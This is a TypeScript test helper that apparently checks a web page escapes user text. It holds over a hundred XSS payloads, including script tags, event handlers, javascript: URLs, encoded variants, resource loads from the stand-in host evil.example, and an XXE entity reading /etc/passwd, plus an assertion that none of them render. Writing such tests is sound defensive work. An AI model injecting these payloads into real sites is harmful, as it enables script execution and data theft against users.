import type { Page } from "playwright-core";
import { expect } from "vitest";

/** The most different of them, for each commit. */
export const fewPayloads = [
  "<script>alert(1)</script>",
  "</script><script>alert(2)</script>",
  "<img src=x onerror=alert(3)>",
  '"><img src=x onerror=alert(4)>',
  "'><svg/onload=alert(5)>",
  "<svg><script>alert(6)</script></svg>",
  "<svg><animate onbegin=alert(7) attributeName=x>",
  '<iframe src="javascript:alert(8)"></iframe>',
  "<iframe srcdoc='<script>alert(9)</script>'>",
  "<details open ontoggle=alert(10)>",
  "<body onload=alert(11)>",
  "<input autofocus onfocus=alert(12)>",
  '<a href="javascript:alert(13)">open</a>',
  "javascript:alert(14)//",
  "data:text/html,<script>alert(15)</script>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(16)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(17)>'>",
  "<textarea></textarea><img src=x onerror=alert(18)>",
  "</textarea><script>alert(19)</script>",
  "</title><script>alert(20)</script>",
  "<!--><img src=x onerror=alert(21)>-->",
  "<style>@import 'javascript:alert(22)'</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<object data=javascript:alert(23)>",
  "<form action=javascript:alert(24)><button>x",
  "<meta http-equiv=refresh content=0;url=javascript:alert(25)>",
  "<base href=//evil.example/>",
  "$" + "{alert(26)}",
  "{{constructor.constructor('alert(27)')()}}",
  "&lt;script&gt;alert(28)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(29)&#62;",
  "\\u003cscript\\u003ealert(30)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(31)%3C/script%3E",
  "<video><source onerror=alert(32)>",
  "<marquee onstart=alert(33)>",
] as const;

const elements = [
  "svg",
  "img",
  "video",
  "audio",
  "iframe",
  "input",
  "select",
  "button",
  "div",
  "marquee",
  "object",
  "embed",
  "style",
  "body",
  "xss",
];
const events = [
  "onload",
  "onerror",
  "onfocus",
  "onpointerenter",
  "onanimationstart",
  "ontoggle",
  "onbegin",
  "onscroll",
  "oncopy",
];
const ways = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java&#9;script:alert(1)",
  "\u0001javascript:alert(1)",
  "vbscript:x",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "//evil.example/x.js",
  "blob:evil",
  "file:///etc/passwd",
];

/** Ways to run a script from a text, for HTML, attributes, addresses, style, JSON and templates: at least 120. */
export const payloads: readonly string[] = [
  ...fewPayloads,
  ...elements.flatMap((element, nth) => {
    const event = events[nth % events.length] ?? "onload";
    return [
      `<${element} ${event}=alert(1) src=x autofocus tabindex=1>`,
      `"><${element}/${event}="alert(1)" src=x>`,
      `'><${element.toUpperCase()} ${event.toUpperCase()}='alert(1)' src=x>`,
    ];
  }),
  ...ways.flatMap((way) => [`<a href="${way}">x</a>`, way]),
  ...[
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math href=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
  ],
  ...[
    "<img srcset='x 1x' onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x onerror\n=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
  ],
  ...[
    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<script\u2028>alert(1)</script>",
  ],
  ...[
    "<style>*{background:url(//evil.example/x)}</style>",
    "background:url(javascript:alert(1))",
    "<p style=\"background:url('//evil.example/x')\">",
    "@import url(//evil.example/x.css);",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
  ],
  ...[
    '";alert(1);//',
    "';alert(1);//",
    "`;alert(1);//",
    '\\";alert(1);//',
    "*/alert(1)/*",
    "</script><svg onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
  ],
  ...[
    "<form><button formaction=javascript:alert(1)>x",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<img src=//evil.example/beacon.png>",
    "<script src=//evil.example/x.js></script>",
    "<audio src=//evil.example/x>",
  ],
  ...[
    "<dialog open onclose=alert(1)>",
    "<details ontoggle=alert(1) open>",
    "<a id=x tabindex=1 onfocusin=alert(1) autofocus>x</a>",
    "<input name=attributes><input name=innerHTML>",
    "<img name=body><img name=cookie>",
    "<base target=_blank href=//evil.example>",
  ],
  ...[
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
  ],
];

/** The page shows the text as text: no element that it describes has come to be. */
export async function expectHarmless(who: { readonly page: Page }, what: string): Promise<void> {
  const born = await who.page.evaluate(
    () =>
      document.querySelectorAll(
        "main script, main iframe, main object, main base, main link, main style, main marquee, main video, main details[ontoggle], img[src$='/x'], [onerror], [onload], [onfocus], a[href^='javascript:' i], form[action^='javascript:' i]",
      ).length,
  );
  expect([what, born]).toEqual([what, 0]);
}
